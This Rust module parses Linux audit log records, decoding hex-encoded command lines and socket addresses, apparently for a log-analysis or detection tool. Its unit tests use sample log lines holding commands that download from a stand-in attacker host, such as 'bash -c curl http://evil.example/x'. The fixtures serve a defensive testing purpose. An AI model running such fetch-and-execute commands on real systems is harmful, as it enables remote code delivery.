//! Command lines and addresses in the records of Linux's audit log.

use std::net::{Ipv4Addr, Ipv6Addr};

use super::Role;

/// A command that was run, put together from its arguments.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Command {
    /// The arguments that stand there as they are, all of them in their order; those that were hex are left out.
    pub(super) plain: String,
    /// The whole command line, if some of its arguments were written in hex.
    pub(super) decoded: String,
}

/// The command lines of the records in a log line: `EXECVE` with its arguments, and `PROCTITLE`.
///
/// auditd writes an argument in quotes, or in hex without quotes if a blank, a quote or a byte outside ASCII is in it.
pub(super) fn commands(log: &str) -> Vec<Command> {
    let mut commands = Vec::new();
    for record in log.split("type=") {
        if let Some(fields) = record.strip_prefix("EXECVE") {
            commands.push(execve(fields));
        } else if record.starts_with("PROCTITLE") || record.starts_with("USER_CMD") {
            for (_, value) in values(record).filter(|(key, _)| matches!(*key, "proctitle" | "cmd")) {
                let mut command = Command::default();
                command.push(value);
                commands.push(command);
            }
        }
    }
    commands
}

/// The addresses in a log line: of the remote host of a login (`addr=`, `hostname=`), and in the socket addresses
/// that a process used (`saddr=`, in hex). Each with its part and the decoding.
pub(super) fn addresses(log: &str) -> Vec<(String, Role, &'static str)> {
    let mut addresses = Vec::new();
    for record in log.split("type=") {
        let is_socket = record.starts_with("SOCKADDR");
        if !is_socket
            && !record.starts_with("USER_")
            && !record.starts_with("CRED_")
            && !record.starts_with("CRYPTO_")
        {
            continue;
        }
        for (key, value) in values(record) {
            match key {
                "saddr" if is_socket => {
                    addresses
                        .extend(socket_address(value).map(|address| (address, Role::Destination, "hex")));
                }
                "addr" | "hostname" | "laddr" if !is_socket => {
                    let role = if key == "laddr" { Role::Destination } else { Role::Source };
                    addresses.push((value.trim_matches(['"', '\'']).to_owned(), role, ""));
                }
                _ => {}
            }
        }
    }
    addresses
}

/// The keys and values of a record. Those that a program gave stand in quotes within `msg='…'`.
fn values(record: &str) -> impl Iterator<Item = (&str, &str)> {
    Words(record).filter_map(|word| {
        let word = word.strip_prefix("msg='").unwrap_or(word);
        word.split_once('=').map(|(key, value)| (key, value.trim_end_matches('\'')))
    })
}

/// The address in a `sockaddr` of Linux, in hex as auditd writes it: the family in the machine's byte order, then
/// the port and the address.
fn socket_address(hex: &str) -> Option<String> {
    let word = |at: usize| u8::from_str_radix(hex.get(at..at + 2)?, 16).ok();
    let mut bytes = [0_u8; 24];
    let len = bytes.len().min(hex.len() / 2);
    for (index, byte) in bytes.iter_mut().take(len).enumerate() {
        *byte = word(index * 2)?;
    }
    match bytes {
        [2, 0, _, _, a, b, c, d, ..] if len >= 8 => Some(Ipv4Addr::new(a, b, c, d).to_string()),
        [10, 0, _, _, _, _, _, _, rest @ ..] if len >= 24 => Some(Ipv6Addr::from(rest).to_string()),
        _ => None,
    }
}

fn execve(fields: &str) -> Command {
    let mut command = Command::default();
    for word in Words(fields) {
        let Some((key, value)) = word.split_once('=') else { continue };
        // `a0`, and `a0[1]` for the pieces of a long one; `a0_len` says how long it is.
        let is_argument = key.strip_prefix('a').is_some_and(|rest| {
            rest.starts_with(|char: char| char.is_ascii_digit())
                && rest.chars().all(|char| char.is_ascii_digit() || char == '[' || char == ']')
        });
        if is_argument {
            command.push(value);
        }
    }
    command
}

impl Command {
    /// Adds one argument as auditd wrote it.
    fn push(&mut self, value: &str) {
        if !self.plain.is_empty() {
            self.plain.push(' ');
        }
        match value.strip_prefix('"').map(|value| value.strip_suffix('"').unwrap_or(value)) {
            Some(plain) => {
                if !self.decoded.is_empty() {
                    self.decoded.push(' ');
                    self.decoded.push_str(plain);
                }
                self.plain.push_str(plain);
            }
            None => match from_hex(value) {
                Some(decoded) => {
                    if self.decoded.is_empty() {
                        self.decoded.push_str(&self.plain);
                    } else {
                        self.decoded.push(' ');
                    }
                    self.decoded.push_str(&decoded);
                }
                None => self.plain.push_str(value),
            },
        }
    }
}

/// The text that hex digits stand for; NULs, which part the words of `proctitle`, become blanks.
fn from_hex(text: &str) -> Option<String> {
    if text.len() < 2 || !text.len().is_multiple_of(2) {
        return None;
    }
    let mut bytes = Vec::with_capacity(text.len() / 2);
    let (pairs, _) = text.as_bytes().as_chunks::<2>();
    for [high, low] in pairs {
        let high = char::from(*high).to_digit(16)?;
        let low = char::from(*low).to_digit(16)?;
        let byte = u8::try_from(high * 16 + low).ok()?;
        bytes.push(if byte == 0 { b' ' } else { byte });
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// The words of a record; blanks in quotes do not part them.
struct Words<'t>(&'t str);

impl<'t> Iterator for Words<'t> {
    type Item = &'t str;

    fn next(&mut self) -> Option<&'t str> {
        self.0 = self.0.trim_start();
        if self.0.is_empty() {
            return None;
        }
        let mut in_quotes = false;
        let end = self.0.find(|char: char| {
            in_quotes ^= char == '"';
            char.is_ascii_whitespace() && !in_quotes
        });
        let (word, rest) = self.0.split_at(end.unwrap_or(self.0.len()));
        self.0 = rest;
        Some(word)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{Command, Role, addresses, commands};

    fn command(plain: &str, decoded: &str) -> Command {
        Command { plain: plain.to_owned(), decoded: decoded.to_owned() }
    }

    #[test]
    fn arguments_are_put_together() {
        let log = r#"type=SYSCALL msg=audit(1714559673.1:9): a0=7ffd a1=55 exe="/bin/bash" type=EXECVE msg=audit(1714559673.1:9): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F6576696C2E6578616D706C652F78 type=CWD msg=audit(1714559673.1:9): cwd="/root""#;
        assert_eq!(commands(log), [command("bash -c ", "bash -c curl http://evil.example/x")]);
    }

    #[test]
    fn plain_arguments_stay() {
        let log = r#"type=EXECVE msg=audit(1.1:1): argc=2 a0="curl" a1="http://evil.example/a b""#;
        assert_eq!(commands(log), [command("curl http://evil.example/a b", "")]);
    }

    #[test]
    fn titles_are_words_parted_by_nul() {
        let log =
            "type=PROCTITLE msg=audit(1.1:1): proctitle=6375726C00687474703A2F2F6576696C2E6578616D706C65";
        assert_eq!(commands(log), [command("", "curl http://evil.example")]);
    }

    #[test]
    fn commands_of_sudo_are_read() {
        let log = r#"type=USER_CMD msg=audit(1.1:1): pid=1 uid=0 msg='cwd="/root" cmd=6375726C206576696C exe="/usr/bin/sudo" res=success'"#;
        assert_eq!(commands(log), [command("", "curl evil")]);
    }

    #[test]
    fn addresses_are_read() {
        let log = "type=USER_LOGIN msg=audit(1.1:1): pid=1 msg='op=login hostname=evil.example addr=203.0.113.9 terminal=ssh' \
                   type=SOCKADDR msg=audit(1.1:2): saddr=02000050CB0071090000000000000000 \
                   type=SOCKADDR msg=audit(1.1:2): saddr=0A0000500000000020010DB800000000000000000000000900000000 \
                   type=SOCKADDR msg=audit(1.1:2): saddr=01002F72756E";
        assert_eq!(
            addresses(log),
            [
                ("evil.example".to_owned(), Role::Source, ""),
                ("203.0.113.9".to_owned(), Role::Source, ""),
                ("203.0.113.9".to_owned(), Role::Destination, "hex"),
                ("2001:db8::9".to_owned(), Role::Destination, "hex"),
            ]
        );
    }

    #[test]
    fn what_is_no_hex_is_kept() {
        assert_eq!(commands("type=EXECVE a0=(null) a1=ABC a0_len=12"), [command("(null) ABC", "")]);
        assert_eq!(commands("type=EXECVE"), [Command::default()]);
        assert_eq!(commands("no record"), []);
    }

    proptest! {
        #[test]
        fn any_record_is_read(log in r#"(type=(EXECVE|PROCTITLE|SOCKADDR|USER_LOGIN) |a[0-9]=|"|[ -~é]|saddr=|[0-9A-F]{2}){0,40}"#) {
            let _ = (commands(&log), addresses(&log));
        }
    }
}
